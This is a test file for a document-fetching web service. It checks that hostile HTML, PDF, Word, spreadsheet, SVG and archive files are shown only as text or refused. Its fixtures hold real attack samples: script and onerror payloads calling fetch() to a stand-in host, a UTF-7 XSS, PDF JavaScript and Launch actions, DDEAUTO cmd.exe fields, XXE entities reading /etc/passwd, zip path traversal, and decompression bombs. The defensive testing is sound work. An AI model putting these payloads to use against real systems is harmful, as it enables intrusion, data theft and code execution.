// Documents that attack, brought to the desk by their address: each is read as words or refused with its finding, nothing
// is asked of anybody, nothing of it runs on the page, and others are answered meanwhile.
import { createServer, type RequestListener, type Server } from 'node:http';
import { type AddressInfo, connect } from 'node:net';
import { gzipSync } from 'node:zlib';
import { parseHTML } from 'linkedom';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { makeZip } from '../src/readers/fixtures/zip.ts';
import { type AccessSite, type Member, serveAccess } from './access-site.ts';
import { makePdf } from './pdf-maker.ts';

let site: AccessSite;
let server: Server;
let listener: RequestListener;
let editor: Member;
/** Every address that was dialled, and every path that was asked. */
const dialled: string[] = [];
const asked: string[] = [];
beforeAll(async () => {
  server = createServer((request, response) => {
    asked.push(request.url ?? '');
    listener(request, response);
  });
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  site = await serveAccess({
    network: {
      resolve: async () => [{ address: '93.184.215.14', family: 4 }],
      connect: async ({ address }) => {
        dialled.push(address);
        return connect((server.address() as AddressInfo).port, '127.0.0.1');
      },
    },
  });
  editor = await site.member('editor');
});
afterAll(async () => {
  server.close();
  await site.close();
});

const promise = 'The parties will grant 2,500 scholarships over the next three years.';
const bait = 'http://bait.example/asked';
const script = `<script>fetch('${bait}')</script>`;
const word = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
const relations = 'http://schemas.openxmlformats.org/package/2006/relationships';
const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const docx = (body: string, more: Record<string, string> = {}, before = '') =>
  makeZip({
    '[Content_Types].xml': '<Types/>',
    'word/document.xml': `<?xml version="1.0"?>${before}<w:document xmlns:w="${word}" xmlns:r="${office}"><w:body>${body}</w:body></w:document>`,
    ...more,
  });
const run = (text: string) => `<w:p><w:r><w:t>${text}</w:t></w:r></w:p>`;
const sheet = makeZip({
  '[Content_Types].xml': '<Types/>',
  'xl/workbook.xml': `<workbook xmlns:r="${office}"><externalReferences><externalReference r:id="r1"/></externalReferences></workbook>`,
  'xl/externalLinks/externalLink1.xml': `<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>`,
  'xl/externalLinks/_rels/externalLink1.xml.rels': `<Relationships xmlns="${relations}"><Relationship Id="r1" Type="x" Target="${bait}" TargetMode="External"/></Relationships>`,
});
const pdf = (objects: readonly string[], catalog: string) => {
  const whole = makePdf([[{ text: promise, x: 72, y: 700 }]], { objects });
  // The catalogue is the first object; what it opens with is written over its blanks, so no place moves.
  return Buffer.from(whole.toString('latin1').replace('/Type /Catalog ', `/Type /Catalog ${catalog} `), 'latin1');
};
const page = (head: string, body = '') =>
  `<!doctype html><html lang="en"><head><title>Communique</title>${head}</head><body><article><h1>Communique</h1>${`<p>${promise} It was agreed by both sides after two days of talks in the capital.</p>`.repeat(6)}${body}</article></body></html>`;

interface Sent {
  readonly name: string;
  readonly bytes: Buffer | string;
  readonly type: string;
  readonly headers?: Record<string, string>;
}
/** Read as words, with nothing of what would run, ask or open. */
const read: readonly Sent[] = [
  {
    name: 'a page that leads away',
    bytes: page(`<meta http-equiv="refresh" content="0;url=${bait}"><base href="${bait}/">`),
    type: 'text/html',
  },
  {
    name: 'a page with scripts',
    bytes: page(
      script,
      `${script}<img src="${bait}" onerror="fetch('${bait}')"><svg onload="fetch('${bait}')"></svg><a href="javascript:fetch('${bait}')">x</a>`,
    ),
    type: 'text/html',
  },
  {
    name: 'a page with frames, objects and styles',
    bytes: page(
      `<link rel="stylesheet" href="${bait}.css"><style>@import "${bait}.css"</style>`,
      `<iframe src="${bait}"></iframe><object data="${bait}"></object><embed src="${bait}"><video src="${bait}" autoplay></video>`,
    ),
    type: 'text/html',
  },
  {
    name: 'a page that says a character set of seven bits',
    bytes: page('<meta charset="utf-7">', '+ADw-script+AD4-alert(1)+ADw-/script+AD4-'),
    type: 'text/html; charset=utf-8',
  },
  {
    name: 'a PDF with JavaScript, a program to start and a form to send',
    bytes: pdf(
      [
        '<< /S /JavaScript /JS (app.launchURL\\("http://bait.example/asked"\\)) >>',
        '<< /S /Launch /F (cmd.exe) >>',
        `<< /S /SubmitForm /F (${bait}) >>`,
        `<< /S /URI /URI (${bait}) >>`,
      ],
      '/OpenAction 6 0 R /AA << /WC 7 0 R /DC 8 0 R >>',
    ),
    type: 'application/pdf',
  },
  {
    name: 'a PDF with a file in it',
    bytes: pdf(
      [
        '<< /Type /Filespec /F (x.exe) /EF << /F 7 0 R >> >>',
        '<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream',
      ],
      '/Names << /EmbeddedFiles << /Names [(x.exe) 6 0 R] >> >>',
    ),
    type: 'application/pdf',
  },
  { name: 'a PDF that is a page too', bytes: Buffer.concat([pdf([], ''), Buffer.from(script)]), type: 'text/html' },
  {
    name: 'a Word file with pictures and a template elsewhere',
    bytes: docx(`${run(promise)}<w:p><w:hyperlink r:id="r2">${'<w:r><w:t>link</w:t></w:r>'}</w:hyperlink></w:p>`, {
      'word/_rels/document.xml.rels': `<Relationships xmlns="${relations}"><Relationship Id="r1" Type="${office}/attachedTemplate" Target="${bait}" TargetMode="External"/><Relationship Id="r2" Type="${office}/hyperlink" Target="${bait}" TargetMode="External"/><Relationship Id="r3" Type="${office}/image" Target="file:///etc/passwd" TargetMode="External"/></Relationships>`,
      'word/vbaProject.bin': 'macro',
    }),
    type: 'application/octet-stream',
  },
  {
    name: 'a Word file with a field that starts a program',
    bytes: docx(
      `${run(promise)}<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>`,
    ),
    type: 'text/plain',
  },
  {
    name: 'a Word file with markup as words',
    bytes: docx(run(promise) + run('&lt;script&gt;alert(1)&lt;/script&gt;')),
    type: 'text/html',
  },
  { name: 'words that are markup', bytes: `${promise}\n${script}\n<img src=x onerror=alert(1)>`, type: 'text/plain' },
];
/** Refused, with the code of its finding or problem. */
const refused: readonly (Sent & { readonly code: string })[] = [
  {
    name: 'a Word file with an entity of a file',
    bytes: docx(run('&x;'), {}, '<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
    type: 'application/octet-stream',
    code: 'zip-broken',
  },
  {
    name: 'a Word file with an entity of the network',
    bytes: docx(run('&x;'), {}, `<!DOCTYPE x SYSTEM "${bait}">`),
    type: 'application/octet-stream',
    code: 'zip-broken',
  },
  {
    name: 'a Word file that swells',
    bytes: docx(run(' '.repeat(3e8))),
    type: 'application/octet-stream',
    code: 'source-format-unknown',
  },
  {
    name: 'a workbook with links elsewhere',
    bytes: sheet,
    type: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    code: 'source-mapping-missing',
  },
  {
    name: 'an archive with a path out of it',
    bytes: makeZip({ '../../../etc/cron.d/x': 'x', 'a.txt': promise }),
    type: 'application/zip',
    code: 'source-format-unknown',
  },
  {
    name: 'an archive of archives',
    bytes: makeZip({ 'a.zip': makeZip({ 'b.zip': 'x' }).toString('latin1') }),
    type: 'application/zip',
    code: 'source-format-unknown',
  },
  {
    name: 'a drawing with a script',
    bytes: `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="fetch('${bait}')"><script>fetch('${bait}')</script><text>${promise}</text></svg>`,
    type: 'image/svg+xml',
    code: 'source-format-unknown',
  },
  {
    name: 'a picture that is a script too',
    bytes: Buffer.from(`GIF89a/*\0\0*/=1;fetch('${bait}')`, 'latin1'),
    type: 'text/html',
    code: 'source-format-unknown',
  },
  {
    name: 'a picture that says it is words',
    bytes: Buffer.from('89504e470d0a1a0a0000000d49484452ffffffffffffffff0800000000', 'hex'),
    type: 'text/plain',
    code: 'source-format-unknown',
  },
  { name: 'a PDF of nothing', bytes: '%PDF-1.7\n', type: 'application/pdf', code: 'pdf-broken' },
  {
    name: 'a locked PDF',
    bytes: makePdf([[{ text: promise, x: 72, y: 700 }]], {
      trailer:
        '/Encrypt << /Filter /Standard /V 1 /R 2 /O (aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa) /U (bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb) /P -4 >> /ID [(a) (a)]',
    }),
    type: 'application/pdf',
    code: 'pdf-',
  },
  { name: 'words with a zero byte', bytes: `${promise}\0`, type: 'text/plain', code: 'source-format-unknown' },
  {
    name: 'a program',
    bytes: Buffer.from('4d5a90000300000004000000ffff0000', 'hex'),
    type: 'text/plain',
    code: 'source-',
  },
  { name: 'nothing', bytes: '', type: 'text/html', code: 'document-empty' },
  {
    name: 'packed bytes that swell',
    bytes: gzipSync(Buffer.alloc(3e8)),
    headers: { 'Content-Encoding': 'gzip' },
    type: 'text/html',
    code: 'fetch-failed',
  },
  { name: 'more than may be', bytes: Buffer.alloc(21 * 2 ** 20, 'x'), type: 'text/plain', code: 'fetch-too-large' },
];

const keep = (id: string, url: string, text = '') =>
  site.post(
    '/en/desk',
    { step: 'keep', title: `A title of ${id}`, text, url, language: 'en', published: '', id },
    editor,
  );
/** What would run or lead away on a page. */
const activeIn = (html: string): string[] =>
  [...parseHTML(html).document.querySelectorAll('*')].flatMap((element) => [
    ...(['IFRAME', 'OBJECT', 'EMBED', 'BASE', 'STYLE', 'VIDEO'].includes(element.tagName) ? [element.tagName] : []),
    ...(element.tagName === 'SCRIPT' && !element.getAttribute('src')?.startsWith('/assets/') ? ['SCRIPT'] : []),
    ...[...element.attributes]
      .filter(
        ({ name, value }) =>
          /^on|^style$/i.test(name) ||
          (/^(src|href|action)$/i.test(name) && /^\s*(javascript|data|file|https?:\/\/bait)/i.test(value)),
      )
      .map(({ name, value }) => `${element.tagName} ${name}=${value}`),
  ]);

describe('a document that attacks', () => {
  for (const [at, { name, bytes, type, headers }] of read.entries())
    it(`is read as words: ${name}`, async () => {
      [dialled.length, asked.length] = [0, 0];
      listener = (_, response) => response.writeHead(200, { 'Content-Type': type, ...headers }).end(bytes);
      const kept = await keep(`read-${at}`, `http://public.example/doc-${at}`);
      const told = await kept.text();
      expect([kept.status, parseHTML(told).document.querySelector('.error-summary')?.textContent]).toEqual([
        303,
        undefined,
      ]);
      const response = await site.get(`/en/reading/read-${at}`, editor);
      const html = await response.text();
      expect(response.status).toBe(200);
      expect(html).toContain('2,500 scholarships');
      expect(activeIn(html)).toEqual([]);
      expect({ dialled, asked }).toEqual({ dialled: ['93.184.215.14'], asked: [`/doc-${at}`] });
    });

  for (const [at, { name, bytes, type, headers, code }] of refused.entries())
    it(`is refused with its finding, and no source of the journal: ${name}`, async () => {
      [dialled.length, asked.length] = [0, 0];
      listener = (_, response) => response.writeHead(200, { 'Content-Type': type, ...headers }).end(bytes);
      const before = site.ledger.size;
      const response = await keep(`refused-${at}`, `http://public.example/doc-${at}`);
      const html = await response.text();
      const { document } = parseHTML(html);
      const said = document.querySelector('.error-summary')?.textContent ?? document.querySelector('main')?.textContent;
      const status = code === 'fetch-failed' ? 502 : code === 'fetch-too-large' ? 413 : 422;
      expect([response.status, said]).toEqual([status, expect.stringContaining(code)]);
      expect(activeIn(html)).toEqual([]);
      expect(html).not.toMatch(/root:x|node_modules|\bat [A-Za-z]+ \(/);
      expect(site.ledger.size).toBe(before);
      expect({ dialled, asked }).toEqual({ dialled: ['93.184.215.14'], asked: [`/doc-${at}`] });
    });

  it('that was pasted is refused in the words of the reader, in every language', async () => {
    for (const [lang, words] of [
      ['en', 'no text could be read in it'],
      ['es', 'no se pudo leer ningún texto'],
      ['zh', '无法从中读出文字'],
    ]) {
      const fields = { step: 'keep', title: 'x', text: `${promise}\0`, language: 'en', id: 'zero' };
      const response = await site.post(`/${lang}/desk`, fields, editor);
      expect(response.status).toBe(422);
      const { document } = parseHTML(await response.text());
      expect(document.querySelector('.error-summary a[href="#text"]')?.textContent).toContain(words);
      expect(document.querySelector('#text-error')?.textContent).toContain('source-binary');
    }
  });

  it('and takes long holds nobody up: others read and write meanwhile', async () => {
    let finish: () => void = () => {};
    listener = (_, response) => {
      response.writeHead(200, { 'Content-Type': 'text/plain' }).write(promise);
      finish = () => response.end();
    };
    asked.length = 0;
    const slow = keep('slow', 'http://public.example/slow');
    await expect.poll(() => asked).toEqual(['/slow']);
    // The slow one is let go only after these were answered.
    const seen = { seen: 'in-use', date: '2026', words: 'w', place: 'p', consent: 'yes' };
    expect((await site.post('/en/contribute/commitment:scholarships-2025', seen)).status).toBe(303);
    expect((await site.get('/en/commitments')).status).toBe(200);
    finish();
    expect((await slow).status).toBe(303);
  });

  it('is kept once of two who bring it at once', async () => {
    listener = (_, response) => response.writeHead(200, { 'Content-Type': 'text/plain' }).end(promise);
    const both = await Promise.all([
      keep('twice', 'http://public.example/x'),
      keep('twice', 'http://public.example/x'),
    ]);
    expect(both.map(({ status }) => status).sort()).toEqual([303, 422]);
  });
});
